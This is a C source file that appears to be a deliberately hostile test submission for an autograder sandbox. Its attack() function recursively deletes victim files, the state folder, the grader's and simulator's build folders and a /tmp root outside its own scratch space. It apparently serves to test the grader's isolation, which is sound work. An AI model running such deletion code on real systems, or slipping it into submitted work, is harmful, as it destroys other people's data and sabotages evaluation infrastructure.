/* rm_outside: removes files outside its scratch folder that its user may
 * remove: a victim file in /tmp and one in the run's own folder (run.sh
 * makes them, owned by the user the student code runs as), and anything
 * in the state folder, the grader's build folders and the simulator's
 * build. Answers honestly (the damage is the attack). */
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "target.h"

static void remove_tree(const char *dir, int depth)
{
    DIR *d = opendir(dir);
    if (d == NULL || depth > 6) {
        if (d)
            closedir(d);
        return;
    }
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
            continue;
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        if (unlink(path) != 0)
            remove_tree(path, depth + 1);
        rmdir(path);
    }
    closedir(d);
}

int attack(void)
{
    unlink("@VICTIM_TMP@");
    unlink("@VICTIM_DIR@");
    remove_tree("@STATE_DIR@", 0);
    remove_tree("@HW_BUILD@", 0);
    remove_tree("/tmp/llmlings-root", 0);
    return 1;
}
